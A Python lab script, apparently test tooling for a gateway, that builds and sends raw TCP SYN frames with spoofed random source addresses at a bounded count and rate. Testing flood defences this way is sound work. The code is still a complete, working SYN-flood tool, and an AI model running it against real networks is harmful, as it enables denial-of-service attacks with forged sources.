#!/usr/bin/env python3
"""A bounded SYN flood for the lab (issue 10.7): COUNT TCP SYNs from random source addresses of
SRC_NET/24 (skipping the addresses in --skip) and random ports to DST:PORT, sent as Ethernet
frames on IFACE to DST_MAC (the gateway's MAC: the LAN VIP's virtual MAC), at RATE frames/s.

Runs in a lab namespace only (the lab test starts it in the client's); every frame goes to the
given MAC on the given interface, and the count and the rate bound it. The frames are built before
the first is sent, so the rate does not depend on Python's speed of building them.

usage: syn-flood.py IFACE DST_MAC SRC_NET DST PORT COUNT RATE [--skip a.b.c.d ...]
"""

import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def frame(dst_mac, src_mac, src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000,
                     64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    eth = dst_mac + src_mac + b"\x08\x00"
    return eth + ip + tcp + b"\0" * 6  # padded to Ethernet's 60 bytes


def main(argv):
    if len(argv) < 8:
        sys.exit(__doc__)
    iface, dst_mac, src_net, dst, port, count, rate = argv[1:8]
    skip = set(argv[9:]) if len(argv) > 8 and argv[8] == "--skip" else set()
    count, rate, port = int(count), int(rate), int(port)
    if not (0 < count <= 1_000_000 and 0 < rate <= 200_000):
        sys.exit("COUNT must be 1..=1000000 and RATE 1..=200000")
    mac = bytes.fromhex(dst_mac.replace(":", ""))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    src_mac = sock.getsockname()[4][:6]
    net = src_net.rsplit(".", 1)[0]
    hosts = [f"{net}.{i}" for i in range(1, 255) if f"{net}.{i}" not in skip]
    d = socket.inet_aton(dst)
    frames = [
        frame(mac, src_mac, socket.inet_aton(random.choice(hosts)), d,
              random.randint(1024, 65535), port, random.getrandbits(32))
        for _ in range(count)
    ]
    start = time.monotonic()
    sent = 0
    batch = max(1, rate // 100)
    for i in range(0, count, batch):
        for f in frames[i:i + batch]:
            try:
                sock.send(f)
                sent += 1
            except OSError:
                pass  # a full socket buffer: the frame is lost, as on a busy wire
        ahead = start + (i + batch) / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    took = time.monotonic() - start
    print(f"sent {sent} of {count} SYNs in {took:.2f} s ({sent / took:.0f}/s)", flush=True)


if __name__ == "__main__":
    main(sys.argv)
